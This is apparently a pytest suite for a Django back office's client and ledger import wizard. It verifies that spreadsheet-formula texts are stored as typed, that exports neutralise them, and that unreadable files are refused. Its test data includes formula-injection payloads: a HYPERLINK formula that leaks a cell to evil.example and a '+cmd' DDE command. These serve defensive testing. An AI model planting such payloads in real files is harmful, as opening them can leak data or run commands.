"""Hostile files in the back office's imports (clients and the ledger), and what its exports let out.

What a real back office expects, decided here: a text that looks like a spreadsheet formula ("=HYPERLINK(…)",
"=1+1", "+cmd|…", "@SUM(…)") is data, stored as typed (a phone "+225 07…" starts the same way, and nothing in the
app evaluates it); a formula where a number belongs is an error on its row; and no export ever lets a formula out
live: CSV cells get a leading apostrophe, XLSX cells are text, and importing an export back changes nothing. Files
come in through the import wizard (fieldsales.imports): one that cannot be read at all (an old .xls, a damaged
workbook, bytes of no spreadsheet, two encodings at once, a cell of megabytes) is refused with a message that tells
the clerk what to do, in their language."""

from __future__ import annotations

import io
import os
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.conf import settings
from django.utils import translation

from clients.models import Client
from clients.schema import NOT_INTEGER
from fieldsales.imports import reading
from fieldsales.imports.reading import (
    BROKEN_XLSX,
    EMPTY_FILE,
    HUGE_CELL,
    MAX_CELL,
    MIXED_ENCODINGS,
    NOT_A_SPREADSHEET,
    OLD_EXCEL,
    TOO_BIG,
)
from fieldsales.models import ImportJob
from kpis.models import LedgerEntry
from kpis.resources import NOT_A_NUMBER
from tests.clients.test_import_export import (
    CLIENTS,
    LEDGER,
    admin_export,
    dataset_of,
    filled,  # noqa: F401 (a fixture)
    from_file,
    import_clients,
    import_ledger,
    ledger_csv,
    ledger_snapshot,
    pos_row,
    snapshot,
    to_file,
)
from tests.factories import LedgerEntryFactory, OrderLineFactory, SubmissionFactory, VisitFactory
from tests.sync.test_push import (
    Catalogue,
    catalogue,  # noqa: F401 (a fixture)
)
from tests.texts import french
from tests.wizard import wizard_send
from workflows.models import OrderLine, Visit

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "quartier": "=1+1",
    # A phone can no longer hold it (clients/phones.py): a text attribute does.
    "command": "+cmd|' /C calc'!A0",
}
SPREADSHEET_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def po(catalogue: Catalogue) -> Catalogue:  # noqa: F811 (the fixture imported above)
    """The French of the sources' catalogue."""
    return catalogue


@pytest.fixture
def clients(filled: list[Client]) -> list[Client]:  # noqa: F811 (the fixture imported above)
    """Three points of sale and a wholesaler, saved (see `filled`)."""
    return filled


@pytest.fixture
def clerk_fr(clerk_client: Any, clients: list[Client]) -> Any:
    """The clerk, reading the admin in French, with `clients` already saved."""
    clerk_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "fr"
    return clerk_client


def everything() -> tuple[Any, ...]:
    return snapshot(), ledger_snapshot()


def form_errors(response: Any) -> list[str]:
    assert response.status_code == 200, "a file that cannot be read goes no further than the upload page"
    assert not ImportJob.objects.exists()
    return [str(error) for error in response.context["form"].errors["import_file"]]


def live_formulas_in_csv(content: bytes) -> list[str]:
    """Cells of a CSV export that a spreadsheet would run."""
    rows = from_file(content, "csv")
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    return [cell for cell in cells if cell.startswith(SPREADSHEET_STARTS) and not _number(cell)]


def formula_cells_in_xlsx(content: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


# Formulas in text cells: stored as typed, never exported live ----------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_texts_are_imported_as_typed_and_exported_inert(clerk_fr, pos_list, fmt):
    rows = [
        pos_row(name=FORMULAS["name"], quartier=FORMULAS["quartier"], reps=""),
        pos_row(name="@SUM(A1:A9)", quartier="-2+3", reps=""),
        pos_row(name="Boutique +225", phone="+225 07 07 07 07 07", lat="-4.5", quartier=FORMULAS["command"], reps=""),
    ]
    content = to_file(dataset_of(rows), fmt)
    if fmt == "xlsx":
        # Typed as text, as a spreadsheet keeps them once the clerk types them after an apostrophe.
        book = openpyxl.load_workbook(io.BytesIO(content))
        for row in book.active.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
        output = io.BytesIO()
        book.save(output)
        content = output.getvalue()

    job = import_clients(clerk_fr, content, fmt, pos_list)

    assert job.counts["new"] == 3, job.errors
    stored = Client.objects.get(name=FORMULAS["name"])
    assert stored.attributes["quartier"] == FORMULAS["quartier"]
    assert Client.objects.get(name="@SUM(A1:A9)").attributes["quartier"] == "-2+3"
    assert Client.objects.get(name="Boutique +225").phone == "+2250707070707"
    assert Client.objects.get(name="Boutique +225").attributes["quartier"] == FORMULAS["command"]

    csv_export = admin_export(clerk_fr, "/admin/clients/client/export/", Client, "csv").content
    xlsx_export = admin_export(clerk_fr, "/admin/clients/client/export/", Client, "xlsx").content

    assert live_formulas_in_csv(csv_export) == []
    assert f"'{FORMULAS['name']}" in from_file(csv_export, "csv")["name"]
    assert formula_cells_in_xlsx(xlsx_export) == []
    exported = from_file(xlsx_export, "xlsx")
    assert f"'{FORMULAS['name']}" in exported["name"]
    # A phone as the list's country dials it: text, no apostrophe, in either file.
    assert "07 07 07 0707" in exported["phone"]
    assert "07 07 07 0707" in from_file(csv_export, "csv")["phone"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formula_like_texts_imported_back_changes_nothing(clerk_fr, pos_list, wholesalers, fmt):
    """The export quotes them ("'=1+1"); the wizard takes the quote off again."""
    for client, name in zip(Client.objects.order_by("name"), ["=1+1", "@SUM(A1)", "+33 1 23", "-x"], strict=False):
        Client.objects.filter(pk=client.pk).update(name=name)
    before = everything()

    for client_list, count in ((pos_list, 3), (wholesalers, 1)):
        query = f"?client_list__id__exact={client_list.pk}"
        exported = admin_export(clerk_fr, "/admin/clients/client/export/", Client, fmt, query).content
        job = import_clients(clerk_fr, exported, fmt, client_list)
        assert job.counts == {"new": 0, "update": 0, "unchanged": count, "error": 0}, job.errors

    assert everything() == before


def test_the_error_file_quotes_formulas_and_imported_back_reads_them_as_sent(clerk_fr, pos_list):
    """The rows given back to correct are as inert as an export, and as faithful."""
    rows = [pos_row(name="=1+1", quartier="@SUM(A1)", surface_m2="douze", reps="")]
    job = import_clients(clerk_fr, to_file(dataset_of(rows), "csv"), "csv", pos_list, mode="good")
    assert [number for number, _error in job.errors] == [2]

    error_csv = clerk_fr.get(f"{CLIENTS}{job.pk}/errors.csv").content
    error_xlsx = clerk_fr.get(f"{CLIENTS}{job.pk}/errors.xlsx").content

    assert live_formulas_in_csv(error_csv.decode("utf-8-sig").replace(";", ",").encode()) == []
    assert formula_cells_in_xlsx(error_xlsx) == []
    fixed = error_xlsx
    book = openpyxl.load_workbook(io.BytesIO(fixed))
    header = [cell.value for cell in book.active[1]]
    book.active.cell(row=2, column=header.index("surface_m2") + 1).value = 12
    output = io.BytesIO()
    book.save(output)
    again = import_clients(clerk_fr, output.getvalue(), "xlsx", pos_list)
    assert again.counts["new"] == 1, again.errors
    assert Client.objects.get(name="=1+1").attributes["quartier"] == "@SUM(A1)"


def test_a_name_a_phone_could_type_with_a_control_character_still_exports_to_xlsx(clerk_fr, clients):
    """One such character used to stop the whole XLSX export ("IllegalCharacterError")."""
    Client.objects.filter(pk=clients[0].pk).update(name="Boutique\x01Awa")
    response = admin_export(clerk_fr, "/admin/clients/client/export/", Client, "xlsx")
    assert "Boutique\N{REPLACEMENT CHARACTER}Awa" in from_file(response.content, "xlsx")["name"]


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        ({"surface_m2": "=1+1"}, NOT_INTEGER),
        ({"surface_m2": '=HYPERLINK("http://evil.example","12")'}, NOT_INTEGER),
    ],
    ids=["sum", "hyperlink"],
)
def test_a_formula_where_a_number_belongs_is_an_error_on_its_row_in_french_and_the_file_writes_nothing(
    clerk_fr, pos_list, po, cells, message
):
    before = everything()
    content = to_file(
        dataset_of([pos_row(name="Bonne ligne", reps=""), pos_row(name="Formule", reps="", **cells)]), "csv"
    )

    job = import_clients(clerk_fr, content, "csv", pos_list)

    assert job.errors == [[3, f"Surface (m²): {french(message)}"]]
    po.assert_french(french(message), message)
    with translation.override("en"):
        assert french(message) != str(message), "the French of this message is in the catalogue"
    assert everything() == before


def test_a_live_formula_cell_of_an_xlsx_is_never_stored_as_its_formula(clerk_fr, pos_list):
    """An XLSX formula cell is read as the value the spreadsheet computed and saved with it; one saved without a
    value (written by a program, not by a spreadsheet) is an empty cell."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(pos_row()))
    sheet.append(list(pos_row(name="Sans valeur", reps="", surface_m2="=6*7").values()))
    output = io.BytesIO()
    book.save(output)

    job = import_clients(clerk_fr, output.getvalue(), "xlsx", pos_list)

    assert job.counts["new"] == 1, job.errors
    assert "surface_m2" not in Client.objects.get(name="Sans valeur").attributes


# The ledger ---------------------------------------------------------------------------------------------


def test_a_ledger_reference_that_looks_like_a_formula_is_stored_as_typed_and_exported_inert(clerk_fr, clients):
    shop = clients[0]
    content = ledger_csv(
        f'{shop.pk},,2026-10-01,invoice,"=HYPERLINK(""http://evil.example"",""F1"")",150,',
        f"{shop.pk},,2026-10-02,payment,@SUM(A1:A2),50,",
    )

    job = import_ledger(clerk_fr, content, "csv")

    assert job.counts["new"] == 2, job.errors
    assert sorted(LedgerEntry.objects.values_list("reference", flat=True)) == [
        '=HYPERLINK("http://evil.example","F1")',
        "@SUM(A1:A2)",
    ]
    csv_export = admin_export(clerk_fr, "/admin/kpis/ledgerentry/export/", LedgerEntry, "csv").content
    xlsx_export = admin_export(clerk_fr, "/admin/kpis/ledgerentry/export/", LedgerEntry, "xlsx").content
    assert live_formulas_in_csv(csv_export) == []
    assert formula_cells_in_xlsx(xlsx_export) == []
    before = ledger_snapshot()
    again = import_ledger(clerk_fr, csv_export, "csv")
    assert again.counts == {"new": 0, "update": 0, "unchanged": 2, "error": 0}, again.errors
    assert ledger_snapshot() == before


@pytest.mark.parametrize("amount", ["=1+1", "=SUM(A1:A2)", "+cmd|' /C calc'!A0", "@SUM(A1)"])
def test_a_formula_as_a_ledger_amount_is_an_error_and_the_file_writes_nothing(clerk_fr, clients, po, amount):
    shop = clients[0]
    LedgerEntryFactory(client=shop, reference="F0001", amount=Decimal("10"))
    before = everything()
    content = ledger_csv(f"{shop.pk},,2026-10-01,invoice,F0001,20,", f'{shop.pk},,2026-10-02,invoice,F0002,"{amount}",')

    job = import_ledger(clerk_fr, content, "csv")

    [(number, error)] = job.errors
    assert number == 3 and error == f"Montant: {french(NOT_A_NUMBER)}"
    assert error.endswith("Saisissez un nombre.")
    assert everything() == before


def test_visit_and_order_exports_do_not_let_a_reps_formula_out(clerk_fr, clients):
    Client.objects.filter(pk=clients[0].pk).update(name='=HYPERLINK("http://evil.example","Clic")')
    visit = VisitFactory(client=clients[0])
    OrderLineFactory(submission=SubmissionFactory(visit=visit), product__name="@SUM(A1:A9)")

    for model, url in ((Visit, "/admin/workflows/visit/export/"), (OrderLine, "/admin/workflows/orderline/export/")):
        assert live_formulas_in_csv(admin_export(clerk_fr, url, model, "csv").content) == []
        assert formula_cells_in_xlsx(admin_export(clerk_fr, url, model, "xlsx").content) == []


# Files that cannot be read, and files that can ---------------------------------------------------------

UTF8_HEADER = "id,list,name,phone,lat,lng,statement_enabled,reps,quartier,categorie\n"
UNREADABLE_FILES = {
    "utf-8-with-windows-1252-rows": (
        (UTF8_HEADER + ",Points de vente,Épicerie,,,,,,Cocody,Boutique\n").encode()
        + ",Points de vente,Café des Sports,,,,,,Marcory,Boutique\n".encode("cp1252")
        + ",Points de vente,Crèmerie,,,,,,Marcory,Boutique\n".encode(),
        "clients.csv",
        MIXED_ENCODINGS,
        {},
    ),
    "random-bytes": (os.urandom(4096).replace(b"PK", b"pk") + b"\x00", "clients.xlsx", NOT_A_SPREADSHEET, {}),
    "a-broken-zip-as-xlsx": (b"PK\x03\x04" + os.urandom(2048), "clients.xlsx", BROKEN_XLSX, {}),
    "an-old-xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(2048), "clients.xls", OLD_EXCEL, {}),
    "a-cell-of-megabytes": (
        (UTF8_HEADER + ",Points de vente," + "A" * (MAX_CELL + 1) + ",,,,,,Cocody,Boutique\n").encode(),
        "clients.csv",
        HUGE_CELL,
        {"count": MAX_CELL},
    ),
    "only-blank-rows": (b";;;\r\n\r\n;;;\r\n", "clients.csv", EMPTY_FILE, {}),
}


def upload(http: Any, target: str, content: bytes, name: str, pos_list: Any) -> Any:
    fields = {"client_list": pos_list.pk} if target == CLIENTS else {}
    return wizard_send(http, target, content, name, **fields)


@pytest.mark.parametrize(("content", "name", "message", "params"), UNREADABLE_FILES.values(), ids=UNREADABLE_FILES)
@pytest.mark.parametrize("target", [CLIENTS, LEDGER], ids=["clients", "ledger"])
def test_a_file_that_cannot_be_read_is_refused_with_what_to_do_in_the_clerks_language(
    clerk_fr, pos_list, po, target, content, name, message, params
):
    before = everything()

    response = upload(clerk_fr, target, content, name, pos_list)

    [error] = form_errors(response)
    assert error == french(message, **params)
    po.assert_french(error, message, **params)
    assert "Error" not in error and "UnicodeDecodeError" not in error and "Traceback" not in error
    assert everything() == before


def test_a_file_larger_than_the_limit_is_refused_before_it_is_read(clerk_fr, pos_list, po, monkeypatch):
    monkeypatch.setattr(reading, "MAX_BYTES", 1000)

    response = upload(clerk_fr, CLIENTS, (UTF8_HEADER * 100).encode(), "clients.csv", pos_list)

    assert form_errors(response) == [french(TOO_BIG)]


READABLE_FILES = {
    # What the old import refused ("not UTF-8", "cannot be read as CSV"), the wizard reads.
    "windows-1252": (
        (UTF8_HEADER + ",Points de vente,Café des Sports,,,,,,Marcory,Boutique\n").encode("cp1252"),
        "clients.csv",
    ),
    "utf-16-with-bom": (
        (UTF8_HEADER + ",Points de vente,Café des Sports,,,,,,Marcory,Boutique\n").encode("utf-16"),
        "c.csv",
    ),
    "an-xlsx-named-csv": (None, "clients.csv"),
}


@pytest.mark.parametrize(("content", "name"), READABLE_FILES.values(), ids=READABLE_FILES)
def test_a_file_saved_another_way_than_utf_8_csv_is_read_whatever_its_name(clerk_fr, pos_list, content, name):
    if content is None:
        content = to_file(dataset_of([pos_row(name="Café des Sports", quartier="Marcory", reps="")]), "xlsx")

    job = import_clients(clerk_fr, content, name.rsplit(".", 1)[-1], pos_list)

    assert job.counts["new"] == 1, job.errors
    assert Client.objects.filter(name="Café des Sports", attributes__quartier="Marcory").exists()


def test_a_huge_text_in_a_cell_is_an_error_on_its_row_not_a_failure(clerk_fr, pos_list):
    rows = [pos_row(name="N" * 5000, quartier="Q" * 20000, reps=""), pos_row(name="Bonne ligne", reps="")]

    job = import_clients(clerk_fr, to_file(dataset_of(rows), "csv"), "csv", pos_list, mode="good")

    assert job.status == "done" and job.counts["new"] == 1
    [(number, error)] = job.errors
    assert number == 2 and "Nom: " in error and "Quartier: " in error
    assert Client.objects.filter(name="Bonne ligne").exists()
